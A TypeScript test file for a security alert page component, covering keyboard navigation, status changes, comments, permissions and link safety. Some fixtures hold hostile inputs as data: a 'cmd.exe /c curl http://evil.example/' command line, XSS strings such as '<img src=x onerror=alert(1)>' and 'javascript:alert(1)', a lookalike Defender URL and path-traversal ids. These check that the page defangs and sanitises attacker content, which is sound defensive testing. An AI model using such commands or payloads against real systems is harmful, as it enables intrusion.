/** The page of an alert, by the eyes and keys of people with and without rights. */
import { expect } from '@open-wc/testing';
import {
  alertPage,
  allByRole,
  byRole,
  clickOn,
  findByRole,
  focused,
  MAIL,
  press,
  said,
  settled,
  SHELL,
  textOf,
  type,
  until,
  whenOn,
  type Wire,
} from './alert-scene.ts';

/** Words of the clipboard, which pages under test have none of. */
function clipboard(): string[] {
  const texts: string[] = [];
  Object.defineProperty(navigator, 'clipboard', {
    configurable: true,
    value: { writeText: (text: string) => Promise.resolve(void texts.push(text)) },
  });
  return texts;
}
const linksOf = (page: Element): string[] => allByRole(page, 'link').map((link) => link.getAttribute('href') ?? '');

describe('wf-alert', () => {
  it('says what happened, what was done, what to do and when, with one request for all that show the alert', async () => {
    const { page, sent, events } = await alertPage({ copies: 2 });
    expect(textOf(byRole(page, 'heading'))).to.match(/\w+/);
    const parts = allByRole(page, 'heading').map(textOf);
    for (const part of [
      'What happened',
      'Actions taken and remediation',
      'Process tree',
      'Related events',
      'Recommended actions',
      'Evidence',
      'Techniques',
      'Comments and activity',
    ])
      expect(parts).to.include(part);
    expect(said(page)).to.match(/First activity \d+ \w+ \d{4}, \d\d:\d\d UTC \(.+?\)/);
    await until(() => /T\d{4}\S* [A-Z]/.test(said(page)), 'techniques have names');
    expect(sent.filter((each) => each.includes('alerts_v2'))).to.deep.equal([`GET /security/alerts_v2/${SHELL}`]);
    expect(events).to.deep.equal([`wf-ready ${SHELL}`]);
  });

  it('leads through the process tree by keys alone, and copies a command line exactly when that is asked for', async () => {
    const line = `cmd.exe /c curl http://evil.example/${'a'.repeat(600)}`;
    const copied = clipboard();
    const { page } = await alertPage({
      alter: (alert) => ({
        ...alert,
        evidence: (alert['evidence'] as Wire[]).map((each) =>
          each['processCommandLine'] === 'cmd.exe' ? { ...each, processCommandLine: line } : each,
        ),
      }),
    });
    const items = (): HTMLElement[] => allByRole(page, 'treeitem');
    const name = (): string => textOf(focused());
    items()[0]!.focus();
    expect(items().filter(({ tabIndex }) => tabIndex === 0)).to.have.length(1);
    await press(page, 'End');
    expect(focused()).to.equal(items().at(-1));
    await press(page, 'Home', 'ArrowDown');
    expect(focused()).to.equal(items()[1]);
    await press(page, 'Home');
    const before = items().length;
    await press(page, 'ArrowLeft');
    expect(items().length).to.be.below(before);
    expect(focused().getAttribute('aria-expanded')).to.equal('false');
    await press(page, 'ArrowRight', 'w');
    expect(name()).to.match(/^whoami\.exe PID/);
    await press(page, 'ArrowLeft');
    expect(name()).to.match(/^cmd\.exe PID/);
    await press(page, 'Enter');
    expect(focused().getAttribute('aria-selected')).to.equal('true');
    const details = await findByRole(page, 'group', 'Details of cmd.exe');
    expect(textOf(details)).to.contain('hxxp://evil[.]example/');
    await clickOn(page, 'button', 'Copy Command line');
    expect(copied.at(-1)).to.equal(line.replace('http://evil.example', 'hxxp://evil[.]example'));
    const choice = byRole(page, 'combobox') as HTMLSelectElement;
    choice.value = 'raw';
    choice.dispatchEvent(new Event('change'));
    await clickOn(page, 'button', 'Copy Command line');
    expect(copied.at(-1)).to.equal(line);
  });

  it('survives processes in rings, without parents and by the thousand', async () => {
    const ring = (id: number, parent: number): Wire => ({
      '@odata.type': '#microsoft.graph.security.processEvidence',
      processId: id,
      parentProcessId: parent,
      imageFile: { fileName: `p${id}.exe` },
    });
    const { page } = await alertPage({
      alter: (alert) => ({
        ...alert,
        evidence: [ring(1, 2), ring(2, 1), ...Array.from({ length: 1000 }, (_, n) => ring(10 + n, 9))],
      }),
    });
    expect(said(page)).to.contain('1,002 processes');
    expect(allByRole(page, 'treeitem').length).to.be.below(60);
  });

  it('shows a piece of evidence over the page, and Escape leads back to what was pressed', async () => {
    const { page } = await alertPage();
    const button = await findByRole(page, 'button', /^Show Process whoami/);
    button.focus();
    await press(page, 'Enter');
    await until(() => page.shadowRoot!.querySelector('wf-i-evidence-pane'), 'the pane');
    await until(() => focused().getRootNode() !== page.shadowRoot, 'focus is in the pane');
    await press(page, 'Escape');
    await until(() => focused() === button, 'focus is back');
    expect(page.shadowRoot!.querySelector('wf-i-evidence-pane')).to.equal(null);
  });

  it('sets the status by keys alone, shows it at once, and offers to take it back', async () => {
    const { page, writes } = await alertPage({ person: 'operator' });
    (await whenOn(page, 'Status')).focus();
    await press(page, 'Enter');
    await findByRole(page, 'option', /Resolved/);
    await press(page, '3');
    await until(() => /was changed\./.test(said(page)), 'it says so');
    expect(writes).to.deep.equal([{ status: 'resolved' }]);
    expect(textOf(page.shadowRoot!.querySelector('header'))).to.contain('Resolved');
    await clickOn(page, 'button', /^Undo/);
    await until(() => /The change of .* was taken back\./.test(said(page)), 'it is taken back');
    expect(textOf(page.shadowRoot!.querySelector('.facts'))).not.to.contain('Resolved');
  });

  it('adds a comment, which stands in the thread at once', async () => {
    const { page, writes } = await alertPage({ person: 'operator' });
    (await whenOn(page, 'Comment')).focus();
    await press(page, 'Enter');
    await until(() => focused().localName === 'textarea', 'the field has focus');
    await type(page, 'Seen before.');
    await press(page, 'Control+Enter');
    await until(() => /1 comment Everything/.test(said(page)), 'it is there');
    expect((writes[0] as Wire)['comment']).to.equal('Seen before.');
    expect((focused() as HTMLTextAreaElement).value).to.equal('');
  });

  it('tells a reader what is missing and who grants it, and sends nothing', async () => {
    const { page, writes } = await alertPage({ person: 'reader' });
    await until(() => /You need Alerts \(manage\)/.test(said(page)), 'the reason');
    const status = byRole(page, 'button', 'Status')!;
    expect(status.getAttribute('aria-disabled')).to.equal('true');
    status.focus();
    await press(page, 'Enter');
    expect(byRole(page, 'option')).to.equal(undefined);
    expect(writes).to.deep.equal([]);
  });

  it('takes actions away when the service refuses them, and reads the rights again', async () => {
    let refused = 0;
    const { page } = await alertPage({
      person: 'operator',
      answer: (request) => {
        if (request.method !== 'PATCH') return undefined;
        refused += 1;
        return Response.json({ error: { code: 'Forbidden', message: 'no' } }, { status: 403 });
      },
    });
    (await whenOn(page, 'Status')).focus();
    await press(page, 'Enter');
    await findByRole(page, 'option', /Resolved/);
    await press(page, '3');
    await until(() => /was not changed\. The service refused/.test(said(page)), 'said');
    // What it says until the rights are read again, and then.
    const reason = /The service refused this although your roles seem|You need Alerts \(manage\)/;
    await until(() => reason.test(said(page)), 'the reason');
    expect(refused).to.equal(1);
    expect(byRole(page, 'button', 'Status')!.getAttribute('aria-disabled')).to.equal('true');
  });

  it('says that a person without a role may not see it', async () => {
    const { page, events } = await alertPage({ person: 'nobody', whole: false });
    await until(() => events.length, 'an event');
    expect(events).to.deep.equal(['wf-denied forbidden']);
    await until(() => /You may not see this/.test(said(page)), 'it says so');
  });

  it('shows tier 1 no alert of a product that is not theirs', async () => {
    const { page, events } = await alertPage({ id: MAIL, person: 'tier1', whole: false });
    await until(() => /This alert was not found/.test(said(page)), 'it says so');
    expect(events).to.deep.equal(['wf-error gone']);
  });

  it('says that there is no such alert, and that no alert can have such an id, without asking for that', async () => {
    const gone = await alertPage({ id: 'da000000000000000000_1', whole: false });
    await until(() => /This alert was not found/.test(said(gone.page)), 'it says so');
    expect(gone.events).to.deep.equal(['wf-error gone']);
    const odd = await alertPage({ id: '../incidents/1', whole: false });
    await until(() => /There is no alert with such an ID/.test(said(odd.page)), 'it says so');
    expect(odd.events).to.deep.equal(['wf-error bad-request']);
    expect(odd.sent.filter((each) => each.includes('/security/'))).to.deep.equal([]);
    const none = await alertPage({ id: undefined, whole: false });
    await until(() => /No alert was named/.test(said(none.page)), 'it says so');
  });

  it('opens its incident by an event that can be cancelled, and makes no link of what attackers write', async () => {
    const { page, events } = await alertPage({
      page: { incidentHrefTemplate: '/incidents/{id}', hrefTemplate: '/alerts/{id}' },
      alter: (alert) => ({
        ...alert,
        incidentId: '2149',
        alertWebUrl: 'https://security.microsoft.com.evil.example/alerts/1',
        title: '<img src=x onerror=alert(1)>',
        description: 'See https://evil.example/a and javascript:alert(1)',
        recommendedActions: '1. Read https://learn.microsoft.com/defender.\n2. Not https://evil.example/b',
        mitreTechniques: ['T1059.001', 'T1059/../../evil', 'javascript:alert(1)'],
      }),
    });
    await until(() => /PowerShell/.test(said(page)), 'names of techniques');
    expect(linksOf(page)).to.have.members([
      '/incidents/2149',
      'https://learn.microsoft.com/defender',
      'https://attack.mitre.org/techniques/T1059/001/',
    ]);
    expect(said(page)).to.contain('hxxps://evil[.]example/b');
    page.addEventListener('wf-incident-open', (event) => event.preventDefault());
    await clickOn(page, 'link', 'Open incident 2149');
    expect(events).to.include('wf-incident-open 2149');
    expect(location.pathname).not.to.contain('incidents');
  });

  it('links the alert in Microsoft Defender where the service gives a plausible address', async () => {
    const { page } = await alertPage({
      alter: (alert) => ({ ...alert, alertWebUrl: 'https://security.microsoft.com/alerts/1?tid=2' }),
    });
    expect(linksOf(page).filter((href) => href === 'https://security.microsoft.com/alerts/1?tid=2')).to.have.length(2);
    expect(said(page)).to.contain('Microsoft Graph does not give the alert story');
  });

  it('fits 320 pixels, and shows its facts when they are unfolded', async () => {
    const { page } = await alertPage({ width: 320 });
    await settled(page);
    const scroller = page.shadowRoot!.querySelector('.scroller')!;
    expect(scroller.scrollWidth).to.be.at.most(scroller.clientWidth);
    await clickOn(page, 'button', 'Details');
    expect(textOf(page.shadowRoot!.querySelector('.facts'))).to.match(/Classification.*Created/);
  });
});
